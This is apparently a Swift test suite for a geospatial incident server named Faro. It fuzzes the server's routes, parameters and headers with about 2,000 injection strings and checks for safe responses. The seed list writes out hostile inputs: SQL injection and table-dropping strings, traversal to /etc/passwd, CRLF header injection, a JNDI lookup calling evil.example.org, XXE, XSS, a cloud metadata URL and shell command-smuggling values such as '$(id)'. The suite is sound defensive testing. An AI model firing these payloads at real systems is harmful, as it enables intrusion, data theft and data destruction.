import Foundation
import HTTPTypes
import Hummingbird
import TestSupport
import Testing

import Privacy
@testable import Server

/// Texts that mean something elsewhere, as every parameter and part of a path.
@Suite struct InjectionTests {
    private static let seeds = [
        "' OR '1'='1", "'; DROP TABLE incidents;--", "1 UNION SELECT sql FROM sqlite_master", "\" OR \"\"=\"",
        "1;ATTACH DATABASE '/tmp/x' AS y",
        "x' AND (SELECT load_extension('/tmp/x'))--", "../../../../etc/passwd", "..\\..\\windows\\win.ini",
        "/etc/passwd", "file:///etc/passwd",
        "\r\nSet-Cookie: a=b", "\r\n\r\nHTTP/1.1 200 OK\r\n", "x\nLocation: http://evil.example.org",
        "${jndi:ldap://evil.example.org/a}",
        "${${lower:j}ndi:rmi://127.0.0.1/x}", "{{7*7}}", "<%= 7*7 %>", "#{7*7}", "${7*7}", "%s%s%s%n", "%x%x%x%x",
        "%n%n%n%n%n", "%99999999d",
        "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "javascript:alert(1)", "=cmd|' /C calc'!A0",
        "+1+1", "@SUM(1+1)",
        "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>",
        "http://169.254.169.254/latest/meta-data/",
        "S_INTERSECTS(geometry,POLYGON((0 0,1e400 0,0 1,0 0)))", "category = 'a' OR 1=1", "((((((((((((((((((((((a=1",
        "S_INTERSECTS(geometry,POLYGON((nan nan)))", "NOT NOT NOT NOT category IS NULL",
        "category LIKE '%%%%%%%%%%%%%%%%%%%%%%%%a'", "x IN ()",
        "date('2024-13-45') < 1", "\u{0}", "a\u{0}b", "\u{202e}gnp.exe", "\u{feff}", "👩‍👩‍👧‍👦", "ı", "İ", "ﬀ",
        "\u{300}\u{300}\u{300}", "٣", "１２",
        "9223372036854775807", "9223372036854775808", "-9223372036854775809", "18446744073709551616", "1e308", "-1e308",
        "1e-400", "NaN",
        "-Infinity", "0x7fffffff", "1_000", "1,000", "1.", ".1", "--1", "2024-02-30", "0000-00-00", "99999999-01-01",
        "-2024-01-01",
        "2024-01-01T25:61:61Z", "../..", "2024-01-01/2023-01-01", "EPSG:99999999999",
        "+proj=pipeline +step +init=/etc/passwd", "EPSG:4326;x",
        "urn:ogc:def:crs:EPSG::4326", "municipality:1@99999999999999999999", "a:b:c@d", ":::", "@", "knn:0", "knn:-1",
        "band:1e400", "*", "",
        " ", "null", "undefined", "true", "__proto__", "constructor", "$(id)", "`id`", "| id", "; id", "&& id",
        "%0d%0a", "%00", "%ff", "%c0%ae", "%",
        "%zz",
    ]

    /// The seeds as they are, doubled, cut, joined, and lengthened.
    static let payloads: [String] = {
        var generator = SeededGenerator(seed: 6)
        var made = seeds
        while made.count < 2_000 {
            let (one, other) = (
                seeds.randomElement(using: &generator) ?? "", seeds.randomElement(using: &generator) ?? ""
            )
            switch Int.random(in: 0..<5, using: &generator) {
            case 0: made.append(one + other)
            case 1: made.append(other + one + String(made.count))
            case 2: made.append(String(one.prefix(Int.random(in: 0...max(1, one.count), using: &generator))) + other)
            case 3:
                made.append(
                    String(repeating: one.isEmpty ? "a" : one, count: Int.random(in: 2...40, using: &generator)))
            default: made.append(one.unicodeScalars.map { String($0) + other.prefix(1) }.joined())
            }
        }
        return made
    }()

    /// Every byte but those that need no percent sign.
    private static func encoded(_ text: String) -> String { Links.encoded(text) }

    /// Each address with each of its parameters, and each address with each of its parts: `%` stands for the payload.
    private static func places(_ server: FaroServer) -> [String] {
        let usual = [
            "set": "grid", "z": "1", "x": "0", "y": "0", "id": "x", "name": "x", "collection": "incidents",
            "feature": "1", "import": "1",
        ]
        func filled(_ path: String, but part: String?) -> String {
            usual.reduce(path) { path, pair in
                path.replacingOccurrences(of: "{\(pair.key)}", with: pair.key == part ? "\u{1}" : pair.value)
            }
        }
        return server.routes.flatMap { route -> [String] in
            let path = filled(route.path, but: nil)
            let snapshot = server.live.current
            let names = route.parameters.union(route.moreParameters(snapshot, ["collection": "incidents"])).union([
                "f", "nonsense",
            ])
            let asked = names.sorted().map { name in
                // Of a day without incidents, on few cells, which costs nothing.
                let cells = name != "cell_size" && route.parameters.contains("cell_size") ? "&cell_size=5000" : ""
                let rest =
                    route.parameters.contains("from") && name != "from" && name != "to"
                    ? "&from=1990-01-01&to=1990-01-01" : ""
                return "\(path)?\(name)=\u{1}\(rest)\(cells)"
            }
            let parts = route.path.split(separator: "{").dropFirst().compactMap {
                $0.split(separator: "}").first.map(String.init)
            }
            return asked + parts.map { filled(route.path, but: $0) } + ["\(path)?\u{1}=1", path + "/\u{1}"]
        }
    }

    @Test func `2,000 texts that mean something elsewhere mean nothing here`() async throws {
        let server = try TestServer.city.get().server { $0.role = .admin }
        let responder = server.router().buildResponder()
        let places = Self.places(server)
        for (index, payload) in Self.payloads.enumerated() {
            // A prime apart, so that every place meets every kind.
            for place in [places[index * 7 % places.count], places[(index * 13 + 5) % places.count]] {
                let address = place.replacingOccurrences(of: "\u{1}", with: Self.encoded(payload))
                let reply = try await server.ask(address, of: responder)
                #expect(reply.status < 500 || reply.status == 503, "\(place) \(payload): \(reply.text.prefix(300))")
                for field in reply.headers {
                    #expect(!field.value.contains { $0.isNewline } && field.name != .setCookie, "\(address)")
                }
                #expect(reply.headers[.contentType]?.contains("html") != true)
                guard reply.status >= 400 else { continue }
                #expect(reply.headers[.contentType] == "application/problem+json" || reply.bytes.isEmpty, "\(address)")
                if payload.count > 41 {
                    #expect(!Self.hasEcho(of: payload, in: reply.text), "\(address): \(reply.text)")
                }
            }
        }
    }

    /// Whether 41 characters of the payload, in a row, stand in a problem as its reader has it: as it is written, the quote
    /// behind 40 characters begins with the backslash that may be the payload's next one.
    private static func hasEcho(of payload: String, in text: String) -> Bool {
        let long = String(payload.prefix(41))
        let problem = try? JSONSerialization.jsonObject(with: Data(text.utf8)) as? [String: Any]
        let words = problem?.values.compactMap { $0 as? String } ?? [text]
        return words.contains { $0.contains(long) }
    }

    @Test func `Headers that mean something elsewhere mean nothing here`() async throws {
        let server = try TestServer.city.get().server { $0.role = .admin }
        let responder = server.router().buildResponder()
        let names: [HTTPField.Name] = [
            .accept, .acceptEncoding, .acceptLanguage, .authorization, .ifNoneMatch, .ifModifiedSince, .origin, .range,
            .userAgent, .referer, .cookie,
            .forwardedHost, .forwardedProto,
        ]
        for (index, payload) in Self.payloads.prefix(600).enumerated() {
            guard HTTPField.isValidValue(payload) else { continue }
            let name = names[index % names.count]
            let reply = try await server.ask("/collections/district", of: responder, headers: [name: payload])
            #expect(reply.status < 500, "\(name): \(payload)")
            for field in reply.headers { #expect(!field.value.contains { $0.isNewline }) }
            #expect(reply.headers[.accessControlAllowOrigin] == nil)
        }
    }
}
